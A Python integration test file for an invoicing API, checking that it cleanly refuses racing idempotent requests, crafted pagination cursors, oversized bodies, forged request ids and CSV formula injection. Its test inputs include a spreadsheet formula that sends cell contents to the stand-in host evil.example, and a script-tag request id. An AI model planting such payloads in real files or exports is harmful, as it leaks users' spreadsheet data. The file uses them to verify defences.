"""The API refuses hostile or racing input cleanly: concurrent idempotent retries, crafted cursors,
oversized bodies, forged request ids, formula injection in CSV and the operators' token."""

from __future__ import annotations

import base64
import csv
import io
import re
import socket
import subprocess
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import replace
from pathlib import Path
from typing import Any

import httpx
import orjson
import psycopg
import pytest

from engine.application import LedgerService
from engine.config import Settings
from engine.relay import Relay
from projections.invoice_register import InvoiceRegister
from projections.runner import ProjectionRunner
from tests.conftest import BackgroundLoop, wait_for
from tests.integration.helpers import client_for, invoice_body, register_tenant
from tests.integration.processes import Processes, free_port, settings_env
from tests.integration.test_api_contract import assert_error_shape

pytestmark = pytest.mark.integration


@pytest.fixture
def api_url(settings: Settings, service: LedgerService, tmp_path: Path) -> Iterator[str]:
    """A real ``ledgerflow api`` process (uvicorn, its thread pool, its own connection pools)."""
    processes = Processes(settings, tmp_path)
    port = free_port()
    api = processes.start("api", "--port", str(port))
    base_url = f"http://127.0.0.1:{port}"

    def ready() -> bool:
        processes.assert_alive(api)
        try:
            return httpx.get(f"{base_url}/readyz", timeout=5).status_code == 200
        except httpx.TransportError:
            return False

    processes.wait_for(ready, timeout=90, interval=0.2, what="the API answering /readyz", watch=[api])
    yield base_url
    processes.close()


def issued_invoices(settings: Settings) -> int:
    with psycopg.connect(settings.database_url, options=f"-c search_path={settings.db_schema}") as conn:
        row = conn.execute("SELECT count(*) FROM ledger_events WHERE topic LIKE '%Invoice.Issued'").fetchone()
    assert row is not None
    return int(row[0])


def post_in_parallel(
    base_url: str, api_key: str, bodies: list[dict[str, Any]], idempotency_key: str
) -> list[httpx.Response]:
    headers = {"Authorization": f"Bearer {api_key}", "Idempotency-Key": idempotency_key}
    limits = httpx.Limits(max_connections=40)
    with (
        httpx.Client(base_url=base_url, timeout=90, limits=limits) as client,
        ThreadPoolExecutor(max_workers=len(bodies)) as pool,
    ):
        return list(pool.map(lambda b: client.post("/v1/invoices", json=b, headers=headers), bodies))


# -- 1. idempotency under concurrency -------------------------------------------------------------


def test_twenty_parallel_requests_with_one_key_and_different_bodies_issue_exactly_one_invoice(
    settings: Settings, service: LedgerService, api_url: str
) -> None:
    _, api_key = register_tenant(service)
    bodies = [invoice_body(f"RACE-{i % 3}") for i in range(20)]

    responses = post_in_parallel(api_url, api_key, bodies, "race-key-1")

    assert [r for r in responses if r.status_code >= 500] == []
    assert issued_invoices(settings) == 1
    created = [r for r in responses if r.status_code == 201]
    assert created, [r.text for r in responses]
    winner = created[0].json()
    for body, response in zip(bodies, responses, strict=True):
        if response.status_code == 201:
            # Only a request with the winner's body gets the invoice, and all get the same one.
            assert response.json()["id"] == winner["id"]
            assert body["number"] == winner["number"]
        else:
            assert response.status_code == 422, response.text
            assert_error_shape(response.json(), "idempotency_key_reused")
            assert body["number"] != winner["number"]
    assert sum(1 for r in created if "Idempotent-Replayed" not in r.headers) == 1


def test_twenty_parallel_identical_requests_with_one_key_all_answer_the_one_invoice(
    settings: Settings, service: LedgerService, api_url: str
) -> None:
    _, api_key = register_tenant(service)

    responses = post_in_parallel(api_url, api_key, [invoice_body("SAME-1")] * 20, "race-key-2")

    assert {r.status_code for r in responses} == {201}, [r.text for r in responses if r.status_code != 201]
    assert len({r.json()["id"] for r in responses}) == 1
    assert [r.headers.get("Idempotent-Replayed") for r in responses].count(None) == 1
    assert issued_invoices(settings) == 1


def test_a_key_claimed_by_a_request_that_hangs_answers_409_in_progress_and_is_free_after_rollback(
    settings: Settings, service: LedgerService, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("engine.application.CLAIM_WAIT_SECONDS", 1)
    tenant_id, api_key = register_tenant(service)
    client = client_for(settings)
    headers = {"Authorization": f"Bearer {api_key}", "Idempotency-Key": "stuck-1"}
    with psycopg.connect(settings.database_url, options=f"-c search_path={settings.db_schema}") as hung:
        # Another request's claim, never committed: as if it hung while issuing.
        hung.execute(
            "INSERT INTO idempotency_keys (tenant_id, key, request_hash, invoice_id)"
            " VALUES (%s, %s, 'x', %s)",
            (tenant_id, "stuck-1", A_UUID),
        )
        waited = client.post("/v1/invoices", json=invoice_body("STUCK-1"), headers=headers)
        assert waited.status_code == 409, waited.text
        assert_error_shape(waited.json(), "idempotency_key_in_progress")
        hung.rollback()
    retried = client.post("/v1/invoices", json=invoice_body("STUCK-1"), headers=headers)
    assert retried.status_code == 201 and "Idempotent-Replayed" not in retried.headers
    assert issued_invoices(settings) == 1


# -- 2. crafted pagination cursors ----------------------------------------------------------------


def b64(raw: bytes | Any) -> str:
    """A cursor as this API writes them (base64url of JSON), around any payload."""
    data = raw if isinstance(raw, bytes) else orjson.dumps(raw)
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


A_UUID = "7d0e8f0e-0000-4000-8000-000000000000"

# (name, cursor, expected status): a cursor we did not issue is a 422, a well-formed one that
# matches nothing is an empty page; nothing is a 500.
INVOICE_CURSORS: list[tuple[str, str, int]] = [
    ("not-base64", "%%%%", 422),
    ("blank-json", b64(b"  "), 422),
    ("json-null", b64(None), 422),
    ("json-string", b64("2026-01-01"), 422),
    ("json-number", b64(7), 422),
    ("json-object", b64({"after": ["2026-01-01", "A", A_UUID]}), 422),
    ("short-array", b64(["2026-01-01", "A"]), 422),
    ("long-array", b64(["2026-01-01", "A", A_UUID, 1]), 422),
    ("nested-arrays", b64([[["2026-01-01"]], ["A"], [A_UUID]]), 422),
    ("deeply-nested", b64(b"[" * 140 + b"]" * 140), 422),
    ("number-not-a-string", b64(["2026-01-01", 12345, A_UUID]), 422),
    ("nul-in-number", b64(["2026-01-01", "INV\x00-1", A_UUID]), 422),
    ("raw-nul-bytes", b64(b"\x00\x00\x00\x00"), 422),
    ("date-month-13", b64(["2026-13-01", "A", A_UUID]), 422),
    ("date-year-0", b64(["0000-01-01", "A", A_UUID]), 422),
    ("date-year-10000", b64(["10000-01-01", "A", A_UUID]), 422),
    ("date-as-number", b64([20260101, "A", A_UUID]), 422),
    ("huge-number", b64(b'["2026-01-01", "A", 123456789012345678901234567890]'), 422),
    ("infinite-number", b64(b'["2026-01-01", "A", 1e400]'), 422),
    ("non-uuid", b64(["2026-01-01", "A", "not-a-uuid"]), 422),
    ("uuid-as-number", b64(["2026-01-01", "A", 42]), 422),
    ("latin-1-bytes", b64(b'["2026-01-01", "\xe9", "x"]'), 422),
    ("a-report-cursor", b64({"report": "invoices", "after": ["2026-01-01", "A", A_UUID]}), 422),
    ("well-formed-far-future", b64(["9999-12-31", "ZZZ", A_UUID]), 200),
    ("well-formed-year-1", b64(["0001-01-01", "", A_UUID]), 200),
]


def rc(report: str, *after: Any) -> str:
    """A report cursor of this API's shape: the report's name and the last row's key."""
    return b64({"report": report, "after": list(after)})


HSN_KEY = ("2026-01-01", "b2b", "8504", "NOS")
LINE_KEY = ("2026-01-01", "A", A_UUID)

REPORT_CURSORS: list[tuple[str, str, str, int]] = [
    ("not-base64", "invoices", "%%%%", 422),
    ("json-array", "invoices", b64(["2026-01-01", "A", A_UUID]), 422),
    ("json-null", "invoices", b64(None), 422),
    (
        "deeply-nested",
        "invoices",
        b64(b'{"report": "invoices", "after": ' + b"[" * 330 + b"]" * 330 + b"}"),
        422,
    ),
    ("extra-field", "invoices", b64({"report": "invoices", "after": [], "x": 1}), 422),
    ("after-not-a-list", "invoices", b64({"report": "invoices", "after": "2026-01-01"}), 422),
    ("after-too-short", "invoices", rc("invoices", "2026-01-01"), 422),
    ("nested-arrays", "invoices", rc("invoices", ["2026-01-01"], ["A"], [A_UUID]), 422),
    ("date-out-of-range", "invoices", rc("invoices", "10000-01-01", "A", A_UUID), 422),
    ("date-as-number", "invoices", rc("invoices", 20260101, "A", A_UUID), 422),
    ("nul-in-text", "invoices", rc("invoices", "2026-01-01", "A\x00", A_UUID), 422),
    ("non-uuid", "invoices", rc("invoices", "2026-01-01", "A", "nope"), 422),
    ("report-not-a-string", "invoices", b64({"report": ["invoices"], "after": []}), 422),
    ("another-reports-cursor", "invoice_lines", rc("invoices", *LINE_KEY), 422),
    ("unknown-report", "invoices", rc("ledger_events", 1), 422),
    (
        "line-no-beyond-64-bits",
        "invoice_lines",
        b64(
            b'{"report": "invoice_lines", "after": ["2026-01-01", "A", "%s", 1%s]}'
            % (A_UUID.encode(), b"0" * 30)
        ),
        422,
    ),
    ("line-no-boolean", "invoice_lines", rc("invoice_lines", *LINE_KEY, True), 422),
    ("line-no-float", "invoice_lines", rc("invoice_lines", *LINE_KEY, 1.5), 422),
    ("line-no-string", "invoice_lines", rc("invoice_lines", *LINE_KEY, "1"), 422),
    ("line-no-max-bigint", "invoice_lines", rc("invoice_lines", *LINE_KEY, 2**63 - 1), 200),
    ("line-no-min-bigint", "invoice_lines", rc("invoice_lines", *LINE_KEY, -(2**63)), 200),
    ("rate-huge-exponent", "hsn_summary", rc("hsn_summary", *HSN_KEY, "1e999999"), 422),
    ("rate-tiny-exponent", "hsn_summary", rc("hsn_summary", *HSN_KEY, "1e-999999"), 422),
    ("rate-nan", "hsn_summary", rc("hsn_summary", *HSN_KEY, "NaN"), 422),
    ("rate-infinity", "hsn_summary", rc("hsn_summary", *HSN_KEY, "-Infinity"), 422),
    ("rate-not-a-number", "hsn_summary", rc("hsn_summary", *HSN_KEY, "18%"), 422),
    ("rate-as-json-number", "hsn_summary", rc("hsn_summary", *HSN_KEY, 18), 422),
    ("rate-wide-but-valid", "hsn_summary", rc("hsn_summary", *HSN_KEY, "999999999999.999"), 200),
]


@pytest.fixture
def tenant_client(settings: Settings, service: LedgerService) -> tuple[Any, dict[str, str]]:
    _, api_key = register_tenant(service)
    client = client_for(settings)
    assert (
        client.post(
            "/v1/invoices", json=invoice_body("CUR-1"), headers={"Authorization": f"Bearer {api_key}"}
        ).status_code
        == 201
    )
    return client, {"Authorization": f"Bearer {api_key}"}


def assert_cursor_answer(response: httpx.Response, expected: int) -> None:
    assert response.status_code == expected, response.text
    if expected == 422:
        assert_error_shape(response.json(), "validation_failed")
        (field,) = response.json()["error"]["details"]["fields"]
        assert (field["path"], field["code"]) == ("cursor", "invalid_cursor")
    else:
        assert response.json()["items"] == []


def test_crafted_invoice_list_cursors_get_a_422_in_the_error_shape_never_a_500(
    tenant_client: tuple[Any, dict[str, str]],
) -> None:
    client, auth = tenant_client
    for name, cursor, expected in INVOICE_CURSORS:
        response = client.get("/v1/invoices", params={"cursor": cursor}, headers=auth)
        try:
            assert_cursor_answer(response, expected)
        except AssertionError as exc:
            raise AssertionError(f"cursor {name}: {exc}") from None


def test_crafted_report_cursors_get_a_422_in_the_error_shape_never_a_500(
    tenant_client: tuple[Any, dict[str, str]],
) -> None:
    client, auth = tenant_client
    for name, report, cursor, expected in REPORT_CURSORS:
        for output in ("json", "csv"):
            response = client.get(
                f"/v1/reports/{report}", params={"cursor": cursor, "format": output}, headers=auth
            )
            if expected == 200 and output == "csv":
                assert response.status_code == 200 and response.text.count("\r\n") == 1, (name, response.text)
                continue
            try:
                assert_cursor_answer(response, expected)
            except AssertionError as exc:
                raise AssertionError(f"cursor {name} ({output}): {exc}") from None


# -- 3. body size limit and request ids ------------------------------------------------------------

ONE_MIB = 1024 * 1024


def raw_exchange(base_url: str, head: bytes, chunks: list[bytes]) -> bytes:
    """Send a request's head and body chunks over a plain socket; the server's answer, up to its
    close. The body is never finished, so an answer proves the server did not wait for it."""
    host, port = base_url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=60) as sock:
        sock.sendall(head)
        for chunk in chunks:
            sock.sendall(chunk)
        answer = b""
        while b"\r\n\r\n" not in answer or not answer.rstrip().endswith(b"}"):
            part = sock.recv(65536)
            if not part:
                break
            answer += part
    return answer


def parse_answer(answer: bytes) -> tuple[int, dict[str, str], dict[str, Any]]:
    head, _, body = answer.partition(b"\r\n\r\n")
    status_line, *header_lines = head.decode("latin-1").split("\r\n")
    headers = {k.lower(): v.strip() for k, v in (line.split(":", 1) for line in header_lines)}
    return int(status_line.split()[1]), headers, orjson.loads(body)


def test_a_declared_body_above_the_limit_is_refused_with_413_before_it_is_sent(
    service: LedgerService, api_url: str
) -> None:
    _, api_key = register_tenant(service)
    head = (
        "POST /v1/invoices HTTP/1.1\r\nHost: test\r\nContent-Type: application/json\r\n"
        f"Authorization: Bearer {api_key}\r\nContent-Length: {ONE_MIB + 1}\r\n\r\n"
    ).encode()

    status, headers, body = parse_answer(raw_exchange(api_url, head, []))

    assert status == 413
    assert_error_shape(body, "payload_too_large")
    assert body["error"]["details"] == {"max_body_bytes": ONE_MIB}
    assert headers["x-request-id"] == body["error"]["request_id"]


def test_a_chunked_body_is_cut_off_with_413_as_soon_as_it_passes_the_limit(
    service: LedgerService, api_url: str
) -> None:
    _, api_key = register_tenant(service)
    head = (
        "POST /v1/invoices HTTP/1.1\r\nHost: test\r\nContent-Type: application/json\r\n"
        f"Authorization: Bearer {api_key}\r\nTransfer-Encoding: chunked\r\n\r\n"
    ).encode()
    piece = b" " * 65536
    # 17 chunks of 64 KiB pass 1 MiB; the terminating zero-length chunk is never sent.
    chunks = [b"%x\r\n" % len(piece) + piece + b"\r\n"] * 17

    status, _, body = parse_answer(raw_exchange(api_url, head, chunks))

    assert status == 413
    assert_error_shape(body, "payload_too_large")


def test_a_body_just_under_the_limit_is_accepted(
    settings: Settings, service: LedgerService, api_url: str
) -> None:
    _, api_key = register_tenant(service)
    raw = orjson.dumps(invoice_body("BIG-1"))
    padded = raw + b" " * (ONE_MIB - len(raw))
    response = httpx.post(
        f"{api_url}/v1/invoices",
        content=padded,
        headers={"Authorization": f"Bearer {api_key}", "Content-Type": "application/json"},
        timeout=60,
    )
    assert response.status_code == 201, response.text
    assert issued_invoices(settings) == 1


def test_the_body_limit_is_a_setting(settings: Settings, service: LedgerService) -> None:
    _, api_key = register_tenant(service)
    client = client_for(replace(settings, max_body_bytes=2000))
    auth = {"Authorization": f"Bearer {api_key}", "Content-Type": "application/json"}
    raw = orjson.dumps(invoice_body("SMALL-1"))
    assert len(raw) < 2000
    assert client.post("/v1/invoices", content=raw, headers=auth).status_code == 201
    refused = client.post("/v1/invoices", content=raw + b" " * 2000, headers=auth)
    assert refused.status_code == 413
    assert_error_shape(refused.json(), "payload_too_large")
    assert issued_invoices(settings) == 1


@pytest.mark.parametrize(
    ("sent", "kept"),
    [
        ("order-42_a.b:c", True),
        ("0af7651916cd43dd8448eb211c80319c", True),
        ("x" * 128, True),
        ("x" * 129, False),
        ("two words", False),
        ('"><script>alert(1)</script>', False),
        ("id\u00e9", False),
        ("a\tb", False),
        ("{json: 1}", False),
    ],
    ids=["plain", "trace-id", "128-chars", "129-chars", "space", "markup", "latin-1", "tab", "braces"],
)
def test_a_client_request_id_is_echoed_only_when_short_and_plain(
    settings: Settings, service: LedgerService, sent: str, kept: bool
) -> None:
    client = client_for(settings)
    response = client.get(
        "/v1/invoices",
        headers={"X-Request-ID": sent.encode("latin-1")},
    )
    assert response.status_code == 401
    echoed = response.headers["x-request-id"]
    assert response.json()["error"]["request_id"] == echoed
    if kept:
        assert echoed == sent
    else:
        assert echoed != sent and re.fullmatch(r"req_[0-9a-f]{20}", echoed)


# -- 4. CSV formula injection ----------------------------------------------------------------------

HOSTILE_NAMES = {"CSV-1": '=HYPERLINK("http://evil.example/?"&A1,"Open")', "CSV-2": "-2+3"}


def test_csv_reports_and_exports_neutralise_formulas_in_text_and_keep_numbers(
    settings: Settings, service: LedgerService, topics: list[str], background: BackgroundLoop, tmp_path: Path
) -> None:
    tenant_id, api_key = register_tenant(service)
    client = client_for(settings)
    auth = {"Authorization": f"Bearer {api_key}"}
    for number, name in HOSTILE_NAMES.items():
        body = invoice_body(number)
        body["buyer"] = {**body["buyer"], "name": name}
        body["lines"] = [{**body["lines"][0], "description": "@SUM(A1:A9)"}]
        assert client.post("/v1/invoices", json=body, headers=auth).status_code == 201, number
    background.start(Relay(settings).run)
    background.start(ProjectionRunner(settings, InvoiceRegister()).run)
    wait_for(
        lambda: len(client.get("/v1/reports/invoices", headers=auth).json()["items"]) == 2,
        timeout=120,
        what="both invoices in the invoices report",
    )

    answered = client.get("/v1/reports/invoices?format=csv", headers=auth)
    exported_file = tmp_path / "invoices.csv"
    export = ["export", "invoices", "--format", "csv", "--out", str(exported_file), "--tenant", tenant_id]
    done = subprocess.run(
        [sys.executable, "-m", "engine.cli", *export],
        env=settings_env(settings),
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 0, done.stderr
    lines_csv = client.get("/v1/reports/invoice_lines?format=csv", headers=auth).text

    for text in (answered.text, exported_file.read_text(encoding="utf-8")):
        rows = {r["invoice_number"]: r for r in csv.DictReader(io.StringIO(text))}
        assert rows["CSV-1"]["buyer_name"] == "'" + HOSTILE_NAMES["CSV-1"]
        assert rows["CSV-2"]["buyer_name"] == "'-2+3"
        # Amounts are numbers, written exactly as the JSON report has them.
        assert (rows["CSV-1"]["taxable"], rows["CSV-1"]["total"]) == ("1000.00", "1180.00")
    json_rows = client.get("/v1/reports/invoices", headers=auth).json()["items"]
    assert {r["buyer_name"] for r in json_rows} == set(HOSTILE_NAMES.values())  # JSON is not a spreadsheet
    assert {r["description"] for r in csv.DictReader(io.StringIO(lines_csv))} == {"'@SUM(A1:A9)"}


# -- 5. the operators' token -----------------------------------------------------------------------

OPS_TOKEN = "ops-7f3c9a1e5b2d4c68"


def test_with_an_ops_token_set_metrics_and_consumer_health_need_it(
    settings: Settings, service: LedgerService, topics: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LEDGERFLOW_LAG_SAMPLE_S", "0")  # no background lag monitor in this test
    _, tenant_key = register_tenant(service)
    client = client_for(replace(settings, ops_token=OPS_TOKEN))
    refusals = [
        {},
        {"Authorization": "Bearer"},
        {"Authorization": f"Bearer {OPS_TOKEN}x"},
        {"Authorization": f"Bearer {OPS_TOKEN[:-1]}"},
        {"Authorization": f"Basic {OPS_TOKEN}"},
        {"Authorization": f"Bearer {tenant_key}"},  # a tenant's API key is not the operators' token
    ]
    for path in ("/metrics", "/healthz/consumers"):
        for headers in refusals:
            refused = client.get(path, headers=headers)
            assert refused.status_code == 401, (path, headers, refused.text)
            assert_error_shape(refused.json(), "unauthorized")
            assert refused.headers["WWW-Authenticate"] == "Bearer"
    ops = {"Authorization": f"Bearer {OPS_TOKEN}"}
    scraped = client.get("/metrics", headers=ops)
    assert scraped.status_code == 200 and "ledgerflow_metrics_source_up" in scraped.text
    health = client.get("/healthz/consumers", headers=ops)
    assert health.status_code == 200, health.text
    assert health.json()["status"] == "ok"
    # Even with the token, the probe answers only for the engine's own consumer groups.
    foreign = client.get("/healthz/consumers", params={"group": "billing-app.consumers"}, headers=ops)
    assert foreign.status_code == 422
    assert_error_shape(foreign.json(), "validation_failed")
    # The tenant API is unaffected by the operators' token.
    assert client.get("/v1/invoices", headers={"Authorization": f"Bearer {tenant_key}"}).status_code == 200


def test_without_an_ops_token_metrics_and_consumer_health_stay_open(
    settings: Settings, topics: list[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("LEDGERFLOW_LAG_SAMPLE_S", "0")
    client = client_for(replace(settings, ops_token=None))
    assert client.get("/metrics").status_code == 200
    assert client.get("/healthz/consumers").status_code == 200
